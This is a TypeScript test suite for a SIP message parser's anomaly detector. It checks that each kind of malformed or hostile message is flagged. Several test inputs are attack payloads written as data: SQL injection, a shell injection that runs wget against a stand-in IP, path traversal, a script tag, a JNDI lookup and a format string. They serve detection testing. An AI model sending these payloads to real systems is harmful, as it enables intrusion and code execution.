import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { about, faults, lines, oddities, raw, read, request, str } from '../../test/messages.ts';
import { inspect } from './inspect.ts';
import {
  addOddity,
  hasOddity,
  isFault,
  MAX_ODDITIES,
  ODDITIES,
  ODDITY_NAMES,
  type OddityName,
  oddityCode,
  oddityGrade,
} from './oddities.ts';
import { createBodyPart, readBody } from './sdp/body.ts';
import { createSdp } from './sdp/sdpview.ts';
import { createMessage } from './sip.ts';

const INVITE = 'INVITE sip:bob@example.com SIP/2.0';
const REGISTER = 'REGISTER sip:example.com SIP/2.0';
const digest = 'Digest username="a",realm="r",nonce="n",uri="sip:r",response="0123456789abcdef0123456789abcdef"';
const answer = (start: string, changes: Readonly<Record<string, string | undefined>> = {}): string =>
  request({ 'Max-Forwards': undefined, Contact: undefined, CSeq: '1 INVITE', ...changes }, start);
const many = (n: number, line: string): string => Array.from({ length: n }, () => line).join('\r\n');

const withBody = (changes: Readonly<Record<string, string | undefined>>, body: string): string =>
  request({ 'Content-Type': 'application/sdp', ...changes }, INVITE, body);
/** An INVITE with a description in which `from` is written as `to`. */
const sdp = (from: string, to: string): string => {
  const whole = lines('v=0', 'o=- 1 2 IN IP4 192.0.2.1', 's=-', 'c=IN IP4 192.0.2.1', 't=0 0', 'm=audio 4000 RTP/AVP 0');
  assert.ok(whole.includes(from), from);
  return withBody({}, whole.replace(from, to));
};

/** For each oddity a message that has it, and the bytes it is about. */
const SHOWN: Readonly<Record<OddityName, readonly [message: string, about: string | RegExp]>> = {
  'crlf-before-start': [`\r\n\r\n${request()}`, '\r\n\r\n'],
  'junk-before-start': [`\0\0${request()}`, '\0\0'],
  'bytes-after-body': [`${request()}more`, 'more'],
  'several-messages': [`${request()}${request()}`, /^OPTIONS /],
  'headers-unterminated': [request().slice(0, -2), /^OPTIONS /],
  'start-line-only': ['OPTIONS sip:a@b SIP/2.0\r\n\r\n', /^OPTIONS /],
  'bare-line-feed': [request().replaceAll('\r\n', '\n'), '\n'],
  'bare-carriage-return': [request({ Subject: 'a\rb' }), '\r'],
  'nul-byte': [request({ Subject: 'a\0\0b' }), '\0\0'],
  'control-byte': [request({ Subject: 'a\x1bb' }), '\x1b'],
  'bad-utf8': [request({ Subject: 'a\xff\xfeb' }), '\\xff\\xfe'],
  'start-line-spaces': [request({}, 'OPTIONS  sip:bob@example.com SIP/2.0'), '  '],
  'start-line-trailing-space': [request({}, 'OPTIONS sip:bob@example.com SIP/2.0 '), ' '],
  'start-line-incomplete': [request({}, 'OPTIONS sip:bob@example.com'), 'OPTIONS sip:bob@example.com'],
  'version-unknown': [request({}, 'OPTIONS sip:bob@example.com SIP/3.0'), 'SIP/3.0'],
  'version-case': [request({}, 'OPTIONS sip:bob@example.com Sip/2.0'), 'Sip/2.0'],
  'method-unknown': [request({}, 'FETCH sip:bob@example.com SIP/2.0'), 'FETCH'],
  'method-case': [request({}, 'Options sip:bob@example.com SIP/2.0'), 'Options'],
  'method-prefix': [request({}, 'XOPTIONS sip:bob@example.com SIP/2.0'), 'X'],
  'method-long': [request({}, 'ABCDEFGHIJKLMNOPQ sip:bob@example.com SIP/2.0'), 'ABCDEFGHIJKLMNOPQ'],
  'method-bad': [request({}, 'OPT(IONS sip:a@b SIP/2.0'), 'OPT(IONS'],
  'status-bad': [answer('SIP/2.0 20 OK'), '20'],
  'request-uri-empty': [request({}, 'OPTIONS SIP/2.0'), ''],
  'request-uri-brackets': [request({}, 'OPTIONS <sip:bob@example.com> SIP/2.0'), '<sip:bob@example.com>'],
  'request-uri-spaces': [request({}, 'OPTIONS sip:bob@example.com x SIP/2.0'), 'sip:bob@example.com x'],
  'request-uri-headers': [request({}, 'OPTIONS sip:bob@example.com?a=b SIP/2.0'), '?a=b'],
  'header-folded': [request({ Subject: 'a\r\n b' }), '\r\n '],
  'header-no-colon': [request().replace('Max-Forwards: 70', 'Max-Forwards 70'), 'Max-Forwards 70'],
  'header-name-bad': [request({ 'a(b': 'x' }), 'a(b'],
  'header-name-long': [request({ [`X-${'a'.repeat(70)}`]: 'x' }), /^X-aaa/],
  'header-empty': [request({ 'Call-ID': '' }), 'Call-ID: '],
  'header-duplicate': [request({ FROM: '<sip:eve@example.org>;tag=2' }), '<sip:eve@example.org>;tag=2'],
  'header-several-values': [request({ To: '<sip:a@b>, <sip:c@d>' }), /^, <sip/],
  'headers-many': [request().replace('Contact', `${many(600, 'X-A: y')}\r\nContact`), 'X-A: y'],
  'fold-before-headers': [request().replace('\r\n', '\r\n \r\n'), ' '],
  'missing-via': [request({ Via: undefined }), /^OPTIONS /],
  'missing-from': [request({ From: undefined }), /^OPTIONS /],
  'missing-to': [request({ To: undefined }), /^OPTIONS /],
  'missing-call-id': [request({ 'Call-ID': undefined }), /^OPTIONS /],
  'missing-cseq': [request({ CSeq: undefined }), /^OPTIONS /],
  'missing-max-forwards': [request({ 'Max-Forwards': undefined }), /^OPTIONS /],
  'missing-contact': [request({ Contact: undefined }, INVITE), 'INVITE'],
  'missing-content-type': [request({ 'Content-Type': undefined }, INVITE, 'v=0'), 'v=0'],
  'call-id-long': [request({ 'Call-ID': 'a'.repeat(257) }), /^aaa/],
  'call-id-bad': [request({ 'Call-ID': 'a@b@c' }), 'a@b@c'],
  'cseq-bad': [request({ CSeq: 'OPTIONS' }), 'OPTIONS'],
  'cseq-too-large': [request({ CSeq: '2147483648 OPTIONS' }), '2147483648'],
  'cseq-mismatch': [request({ CSeq: '1 INVITE' }), 'INVITE'],
  'cseq-method-unknown': [answer('SIP/2.0 200 OK', { CSeq: '1 FETCH' }), 'FETCH'],
  'max-forwards-bad': [request({ 'Max-Forwards': '256' }), '256'],
  'content-length-bad': [request({ 'Content-Length': '-1' }), '-1'],
  'content-length-larger': [request({ 'Content-Length': '10' }, INVITE, 'v=0'), 'v=0'],
  'content-length-conflict': [request({ l: '3' }), '3'],
  'expires-bad': [request({ Expires: 'soon' }), 'soon'],
  'expires-too-large': [request({ Expires: '4294967296' }), '4294967296'],
  'date-bad': [request({ Date: 'Sat, 13 Nov 2010 23:29:00 CET' }), 'Sat, 13 Nov 2010 23:29:00 CET'],
  'number-bad': [request({ RSeq: 'x' }), 'x'],
  'content-type-bad': [request({ 'Content-Type': 'sdp' }), 'sdp'],
  'warning-bad': [answer('SIP/2.0 488 No', { Warning: '1812 a "b"' }), '1812 a "b"'],
  'user-agent-long': [request({ 'User-Agent': 'a'.repeat(257) }), /^aaa/],
  'via-bad': [request({ Via: 'SIP/2.0 192.0.2.1' }), 'SIP/2.0 192.0.2.1'],
  'via-long': [request({ Via: `SIP/2.0/UDP a;branch=z9hG4bK${'a'.repeat(1010)}` }), /^SIP/],
  'via-version': [request({ Via: 'SIP/3.0/UDP a;branch=z9hG4bK1' }), 'SIP/3.0'],
  'via-transport-unknown': [request({ Via: 'SIP/2.0/PIGEON a;branch=z9hG4bK1' }), 'PIGEON'],
  'branch-missing': [request({ Via: 'SIP/2.0/UDP a' }), 'SIP/2.0/UDP a'],
  'branch-no-cookie': [request({ Via: 'SIP/2.0/UDP a;branch=1' }), '1'],
  'branch-empty': [request({ Via: 'SIP/2.0/UDP a;branch=z9hG4bK' }), 'z9hG4bK'],
  'via-broadcast': [request({ Via: 'SIP/2.0/UDP 255.255.255.255;branch=z9hG4bK1' }), '255.255.255.255'],
  'vias-many': [request().replace('Via', `${many(70, 'v: SIP/2.0/UDP a;branch=z9hG4bK1')}\r\nVia`), /^SIP/],
  'address-empty': [request({ To: '"Bob" <>' }), '<>'],
  'address-long': [request({ To: `"${'a'.repeat(300)}" <sip:a@b>` }), /^"aaa/],
  'address-unclosed': [request({ To: '<sip:a@b' }), '<sip:a@b'],
  'address-unbracketed': [request({ To: 'sip:a@b?c=d' }), 'sip:a@b?c=d'],
  'address-spaces': [request({ To: '< sip:a@b >' }), '< sip:a@b >'],
  'address-junk': [request({ To: '<sip:a@b> x' }), 'x'],
  'display-name-unquoted': [request({ To: 'Mr. (A) <sip:a@b>' }), 'Mr. (A)'],
  'display-name-uri': [request({ To: '"<sip:x@y>" <sip:a@b>' }), '"<sip:x@y>"'],
  'quote-unterminated': [request({ To: '"Bob <sip:a@b>' }), '"Bob <sip:a@b>'],
  'parameter-empty': [request({ To: '<sip:a@b>;;x' }), ';'],
  'parameter-bad': [request({ To: '<sip:a@b>;x=(y)' }), 'x=(y)'],
  'value-empty': [request({ Contact: '<sip:a@b>,' }), ','],
  'tag-missing': [request({ From: '<sip:a@b>' }), '<sip:a@b>'],
  'tag-empty': [request({ From: '<sip:a@b>;tag=' }), 'tag'],
  'tag-duplicate': [request({ From: '<sip:a@b>;tag=1;tag=2' }), 'tag=2'],
  'tag-long': [request({ From: `<sip:a@b>;tag=${'1'.repeat(129)}` }), /^111/],
  'contact-star-misused': [request({ Contact: '*' }, REGISTER), 'REGISTER'],
  'contact-headers': [request({ Contact: '<sip:a@b?Route=c>' }), 'Route=c'],
  'uri-long': [request({ To: `<sip:${'a'.repeat(260)}@b>` }), /^sip:aaa/],
  'uri-scheme-unknown': [request({ To: '<isbn:123>' }), 'isbn'],
  'uri-no-scheme': [request({ To: '<bob@example.com>' }), 'bob@example.com'],
  'uri-host-empty': [request({ To: '<sip:bob@>' }), ''],
  'uri-user-empty': [request({ To: '<sip:@b>' }), '@'],
  'uri-host-bad': [request({ To: '<sip:a@b!c>' }), 'b!c'],
  'uri-port-bad': [request({ To: '<sip:a@b:65536>' }), '65536'],
  'uri-password': [request({ To: '<sip:a:secret@b>' }), 'secret'],
  'uri-two-ats': [request({ To: '<sip:a@b@c>' }), '@'],
  'uri-byte-bad': [request({ To: '<sip:a|c@b>' }), '|'],
  'escape-bad': [request({ To: '<sip:a%4z@b>' }), '%4z'],
  'escape-nul': [request({ To: '<sip:a%00@b>' }), '%00'],
  'ipv6-unbracketed': [request({ To: '<sip:a@2001:db8::1>' }), 'db8::1'],
  'ipv6-bad': [request({ To: '<sip:a@[2001:db8]>' }), '[2001:db8]'],
  'ipv6-three-colons': [request({ To: '<sip:a@[2001:db8:::1]>' }), '[2001:db8:::1]'],
  'tel-bad': [request({ To: '<tel:help>' }), 'help'],
  'auth-scheme-unknown': [request({ Authorization: 'Basic YTpi' }), 'Basic'],
  'digest-incomplete': [request({ Authorization: 'Digest username="a"' }), 'Digest username="a"'],
  'digest-bad': [request({ Authorization: `${digest}, x` }), 'x'],
  'digest-response-bad': [request({ Authorization: digest.replace('abcdef"', '"') }), '0123456789abcdef0123456789'],
  'sql-injection': [request({ Authorization: digest.replace('"a"', '"a\' OR 1=1 --"') }), "a' OR 1=1 --"],
  'shell-injection': [request({ 'X-Name': 'a; wget http://192.0.2.66/x' }), 'a; wget http://192.0.2.66/x'],
  'path-traversal': [request({ To: '<sip:../../etc/x@b>' }), '../../etc/x'],
  'markup-injection': [request({ To: '"<script>x" <sip:a@b>' }), '<script>x'],
  'lookup-injection': [request({ 'X-Api': '\x24{jndi:ldap://192.0.2.66/a}' }), '\x24{jndi:ldap://192.0.2.66/a}'],
  'format-string': [request({ 'User-Agent': '%s%s%n' }), '%s%s%n'],
  'overflow-pattern': [request({ Subject: 'AB'.repeat(600) }), /^(AB)+$/],
  'escape-line-end': [request({ To: '<sip:a%0d%0aVia:x@b>' }), '%0d'],
  'escape-control': [request({ To: '<sip:a%1b@b>' }), '%1b'],
  'bidi-control': [request({ Subject: 'a\xe2\x80\xaeb' }), '\u202e'],
  'invisible-character': [request({ Subject: 'a\xe2\x80\x8bb' }), '\u200b'],
  'header-long': [request({ 'X-A': 'word '.repeat(300) }), /^word/],
  'content-type-long': [request({ 'Content-Type': `text/plain;x=${'ab1'.repeat(90)}` }), /^text/],
  'branch-long': [request({ Via: `SIP/2.0/UDP a;branch=z9hG4bK${'12ab5'.repeat(60)}` }), /^z9h/],
  'max-forwards-zero': [request({ 'Max-Forwards': '0' }), '0'],
  'max-forwards-high': [request({ 'Max-Forwards': '200' }), '200'],
  'extension-required': [request({ 'Proxy-Require': 'foo' }), 'foo'],
  'token-bad': [request({ Allow: 'IN(VITE' }), 'IN(VITE'],
  'parameter-duplicate': [request({ Event: 'dialog;id=1;ID=2' }), 'ID'],
  'body-encoded': [withBody({ 'Content-Encoding': 'gzip' }, 'x'), 'x'],
  'multipart-bad': [withBody({ 'Content-Type': 'multipart/mixed' }, 'x'), 'x'],
  'sdp-several': [
    withBody(
      { 'Content-Type': 'multipart/mixed;boundary=x' },
      `${many(2, '--x\r\nContent-Type: application/sdp\r\n\r\nv=0')}\r\n--x--\r\n`,
    ),
    'v=0\r\n',
  ],
  'sdp-untyped': [withBody({ 'Content-Type': undefined }, 'v=0\r\n'), 'v=0\r\n'],
  'sdp-version': [sdp('v=0', 'v=1'), 'v=1'],
  'sdp-missing-origin': [sdp('o=- 1 2 IN IP4 192.0.2.1\r\n', ''), /^v=0/],
  'sdp-missing-name': [sdp('s=-\r\n', ''), /^v=0/],
  'sdp-missing-time': [sdp('t=0 0\r\n', ''), /^v=0/],
  'sdp-origin-bad': [sdp('o=- 1 2', 'o=- 1 b'), '- 1 b IN IP4 192.0.2.1'],
  'sdp-order': [sdp('s=-\r\n', 't=0 0\r\ns=-\r\n'), 's=-'],
  'sdp-line-bad': [sdp('s=-', 's-'), 's-'],
  'sdp-line-long': [sdp('s=-', `s=${'x'.repeat(1000)}`), /^s=xxx/],
  'sdp-control-byte': [sdp('s=-', 's=a\tb'), '\t'],
  'sdp-media-bad': [sdp('m=audio 4000 RTP/AVP 0', 'm=audio 4000 RTP/AVP'), 'audio 4000 RTP/AVP'],
  'sdp-media-many': [sdp('m=audio', `${many(16, 'm=audio 0 RTP/AVP 0')}\r\nm=audio`), 'audio 4000 RTP/AVP 0'],
  'sdp-formats-many': [sdp('RTP/AVP 0', `RTP/AVP${' 0'.repeat(25)}`), /^audio 4000/],
  'sdp-port-bad': [sdp('4000', '65536'), '65536'],
  'sdp-format-bad': [sdp('RTP/AVP 0', 'RTP/AVP 128'), 'audio 4000 RTP/AVP 128'],
  'sdp-address-bad': [sdp('c=IN IP4 192.0.2.1', 'c=IN IP4 192.0.2.256'), 'IN IP4 192.0.2.256'],
  'sdp-connections': [sdp('t=0 0', 'c=IN IP4 192.0.2.2\r\nt=0 0'), 'IN IP4 192.0.2.2'],
  'sdp-connection-missing': [sdp('c=IN IP4 192.0.2.1\r\n', ''), 'audio 4000 RTP/AVP 0'],
  'sdp-attribute-bad': [sdp('RTP/AVP 0', 'RTP/AVP 0\r\na=rtpmap:x'), 'rtpmap:x'],
  // Seen by track, which knows the transport and the version before: track/media.test.ts.
  'sdp-key-clear': [sdp('v=0', 'v=0'), ''],
  'sdp-version-decrease': [sdp('v=0', 'v=0'), ''],
};

/** Seen by `inspect` only. */
const DEEP = new Set<OddityName>(['token-bad', 'parameter-duplicate']);
/** Seen by track. */
const LATER = new Set<OddityName>(['sdp-key-clear', 'sdp-version-decrease']);

describe('each oddity', () => {
  for (const name of ODDITY_NAMES) {
    if (LATER.has(name)) continue;
    const [message, expected] = SHOWN[name];
    test(name, () => {
      const m = read(message);
      if (DEEP.has(name)) {
        const deep = inspect(m).oddities.find((o) => o.name === name);
        assert.equal(str(m, deep!), expected);
        return;
      }
      if (/^(sdp|body|multipart)-/.test(name)) readBody(m, createBodyPart(), createSdp(), false);
      const found = about(m, name);
      if (typeof expected === 'string') assert.equal(found, expected);
      else assert.match(found, expected);
      assert.equal(hasOddity(m, oddityCode(name)), true);
    });
  }

  test('a right message has none', () => {
    for (const message of [
      request(),
      request({}, INVITE, 'v=0\r\n'),
      answer('SIP/2.0 200 OK'),
      request({ Contact: '*', Expires: '0' }, REGISTER),
    ]) {
      const m = read(message);
      assert.deepEqual(oddities(m), []);
      assert.equal(hasOddity(m, 0), false);
    }
  });
});

test('every kind is described', () => {
  for (const name of ODDITY_NAMES) {
    const { about: text, grade, reference } = ODDITIES[name];
    assert.match(text, /^[A-Z].*\.$/);
    assert.match(reference, /^RFC \d+ §/);
    assert.equal(oddityGrade(oddityCode(name)), grade);
    assert.equal(isFault(oddityCode(name)), grade !== 'note');
  }
});

test('when the list is full a worse oddity takes the place of a milder one', () => {
  const m = createMessage();
  const note = oddityCode('header-folded');
  const hostile = oddityCode('nul-byte');
  for (let i = 0; i < MAX_ODDITIES + 5; i++) addOddity(m, note, i, i + 1);
  assert.equal(m.oddityCount, MAX_ODDITIES);
  assert.equal(m.oddities.length, MAX_ODDITIES);
  addOddity(m, hostile, 900, 901);
  assert.deepEqual(faults(m), ['nul-byte']);
  assert.equal(m.oddityCount, MAX_ODDITIES);
  for (let i = 0; i < 2 * MAX_ODDITIES; i++) addOddity(m, hostile, i, i + 1);
  assert.equal(m.oddities.filter((o) => o.code === hostile).length, MAX_ODDITIES);
});

test('a datagram that the capture cut: what is missing at its end is not held against it', () => {
  const whole = request({ Authorization: digest }, INVITE, 'v=0\r\n');
  for (let n = 60; n < whole.length; n++) {
    const m = read(raw(whole.slice(0, n)), true);
    assert.deepEqual(oddities(m), [], `cut to ${n}`);
  }
  assert.ok(faults(read(whole.slice(0, 300))).length > 0);
  const odd = read(raw(lines(INVITE, 'From: <sip:a@b>;tag=1;tag=2', 'Subject: a\0b', 'To: <sip:a')), true);
  assert.deepEqual(faults(odd), ['nul-byte', 'tag-duplicate']);
});
